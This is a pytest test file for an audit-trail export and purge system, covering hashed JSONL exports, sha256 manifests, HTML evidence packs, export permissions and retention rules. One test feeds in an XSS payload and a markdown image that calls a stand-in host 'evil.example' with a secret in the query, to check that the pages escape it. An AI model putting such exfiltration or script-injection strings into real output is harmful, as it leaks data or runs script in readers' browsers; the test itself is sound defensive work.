"""Export (JSONL, evidence packs, sha256 manifest) and retention-bound purge."""

from __future__ import annotations

import hashlib
import json
import sqlite3
from datetime import UTC, date, datetime

import pytest

from app.trail.anchor import make_anchor
from app.trail.export import export_trail, recompute_hash
from app.trail.retention import years_before
from app.trail.review import review_answer
from app.trail.sqlite import SqliteTrailStore
from ingestion.errors import InputError, PermissionDenied
from tests.trail.conftest import make_answer


def test_export_is_complete_checkable_and_readable(people, tmp_path) -> None:
    trail = people.trail
    hostile = '<img src=x onerror="alert(1)"> ![](https://evil.example/?q=secret)'
    a = trail.append(make_answer("ana", 1, answer=hostile))
    trail.append(make_answer("bob", 2))
    review_answer(trail, a.id, reviewer=people.user("carl"), status="escalated", note="check <b>")
    out = tmp_path / "export"
    report = export_trail(trail, out, viewer=people.user("carl"))
    assert report.records == 3 and report.evidence_packs == 2 and report.chain_ok

    lines = [json.loads(x) for x in (out / "records.jsonl").read_text().splitlines()]
    assert [x["seq"] for x in lines] == [1, 2, 3]
    # Every hash can be recomputed from the export alone, and the links hold.
    prev = "0" * 64
    for line in lines:
        assert line["prev_hash"] == prev
        assert recompute_hash(line) == line["hash"]
        prev = line["hash"]

    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["chain"]["ok"] is True and manifest["records"] == 3
    listed = {f["path"] for f in manifest["files"]}
    assert listed == {"records.jsonl", f"evidence/{a.id}.html", f"evidence/{lines[1]['id']}.html"}
    for entry in manifest["files"]:
        assert hashlib.sha256((out / entry["path"]).read_bytes()).hexdigest() == entry["sha256"]
    sums = (out / "SHA256SUMS").read_text().splitlines()
    assert len(sums) == 4 and sums[-1].endswith("  manifest.json")

    page = (out / "evidence" / f"{a.id}.html").read_text()
    assert "<img" not in page and "&lt;img" in page  # untrusted text is inert
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "escalated" in page and "check &lt;b&gt;" in page  # the review is in the pack
    assert "APPLE_2022_10K.pdf" in page and "ab" * 32 in page and "risk@1" in page


def test_analysts_export_only_their_own(people, tmp_path) -> None:
    trail = people.trail
    trail.append(make_answer("ana", 1))
    trail.append(make_answer("bob", 2))
    report = export_trail(trail, tmp_path / "mine", viewer=people.user("ana"))
    lines = (tmp_path / "mine" / "records.jsonl").read_text().splitlines()
    assert report.records == 1 and json.loads(lines[0])["record"]["user"] == "ana"
    with pytest.raises(PermissionDenied):
        export_trail(trail, tmp_path / "theirs", viewer=people.user("ana"), asked_by="bob")
    assert not (tmp_path / "theirs").exists()
    with pytest.raises(InputError, match="already exists"):
        export_trail(trail, tmp_path / "mine", viewer=people.user("ana"))


def test_export_by_dates(people, tmp_path) -> None:
    trail = people.trail
    trail.append(make_answer("ana", 1, time=datetime(2026, 3, 1, tzinfo=UTC)))
    trail.append(make_answer("ana", 2, time=datetime(2026, 3, 2, tzinfo=UTC)))
    report = export_trail(
        trail, tmp_path / "x", viewer=people.user("carl"), start=date(2026, 3, 2), end=None
    )
    assert report.records == 1 and report.manifest["filters"]["from"] == "2026-03-02"


class Clock:
    """A settable clock, so records can be appended 'years ago'."""

    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


def test_purge_refuses_records_younger_than_retention(store) -> None:
    store.append(make_answer())
    today = datetime.now(UTC)
    with pytest.raises(InputError, match="younger than the 6-year retention"):
        store.purge(today.date(), user="carl", role="compliance", retention_years=6)
    with pytest.raises(InputError, match="younger"):
        store.purge(date(2025, 1, 1), user="carl", role="compliance", retention_years=6)
    assert store.head().count == 1


def test_purge_drops_only_old_records_and_records_itself(tmp_path) -> None:
    clock = Clock(datetime(2015, 6, 1, tzinfo=UTC))
    store = SqliteTrailStore(tmp_path / "trail.sqlite", clock=clock)
    old = [store.append(make_answer(n=i)) for i in range(3)]
    clock.now = datetime(2019, 6, 1, tzinfo=UTC)
    kept = store.append(make_answer(n=9))
    clock.now = datetime(2026, 11, 28, tzinfo=UTC)
    anchor = make_anchor(store, by="carl")
    assert years_before(clock.now, 6) == date(2020, 11, 28)

    result = store.purge(date(2017, 1, 1), user="carl", role="compliance", retention_years=6)
    assert result["purged"] == 3 and result["through_seq"] == 3
    assert result["through_hash"] == old[-1].hash
    remaining = store.read()
    assert [r.seq for r in remaining] == [4, 5]
    assert remaining[0] == kept
    event = remaining[1].record
    assert event["kind"] == "event" and event["details"]["action"] == "purge"
    assert event["details"]["count"] == 3 and event["user"] == "carl"
    verified = store.verify(anchor)
    assert verified.ok, verified.to_json()
    assert verified.anchor is not None and verified.anchor["ok"] is True
    # An anchor of a record that was later purged cannot be compared: reported, not failed.
    early = {"seq": 2, "hash": old[1].hash}
    unchecked = store.verify(early)
    assert unchecked.ok and unchecked.anchor["ok"] is None and "purged" in unchecked.anchor["note"]
    at_base = store.verify({"seq": 3, "hash": old[2].hash})  # the purge's own base still checks
    assert at_base.ok and at_base.anchor["ok"] is True
    assert not store.verify({"seq": 3, "hash": "f" * 64}).ok

    # Purging again finds nothing older; later appends continue the chain.
    again = store.purge(date(2017, 1, 1), user="carl", role="compliance", retention_years=6)
    assert again["purged"] == 0
    store.append(make_answer(n=10))
    assert store.verify().ok and store.head().seq == 6

    # Purges are append-only too; deleting a kept record is still refused.
    con = sqlite3.connect(store.path)
    for sql in ("DELETE FROM purges", "UPDATE purges SET through_seq = 0",
                "DELETE FROM records WHERE seq = 4"):  # fmt: skip
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            con.execute(sql)
    con.close()


def test_purge_refuses_a_damaged_trail(tmp_path) -> None:
    clock = Clock(datetime(2015, 6, 1, tzinfo=UTC))
    store = SqliteTrailStore(tmp_path / "trail.sqlite", clock=clock)
    store.append(make_answer(n=1))
    store.append(make_answer(n=2))
    con = sqlite3.connect(store.path)
    con.execute("DROP TRIGGER records_no_update")
    con.execute("UPDATE records SET body = replace(body, 'AAPL', 'MSFT') WHERE seq = 2")
    con.commit()
    con.close()
    clock.now = datetime(2026, 11, 28, tzinfo=UTC)
    with pytest.raises(Exception, match="does not verify"):
        store.purge(date(2017, 1, 1), user="carl", role="compliance", retention_years=6)
    assert store.head().count == 2


def test_digests_and_predictions_get_evidence_packs(people, tmp_path) -> None:
    from tests.trail.test_record import make_prediction

    trail = people.trail
    p = trail.append(make_prediction(user="ana"))
    d = trail.append(make_answer("ana", 1, kind="digest"))
    review_answer(trail, p.id, reviewer=people.user("carl"), status="flagged", note="stale")
    report = export_trail(trail, tmp_path / "out", viewer=people.user("carl"))
    assert report.records == 3 and report.evidence_packs == 2
    packs = {f.name for f in (tmp_path / "out" / "evidence").iterdir()}
    assert packs == {f"{p.id}.html", f"{d.id}.html"}
    page = (tmp_path / "out" / "evidence" / f"{p.id}.html").read_text()
    assert "Prediction record" in page and "stale" in page  # its review is in its pack
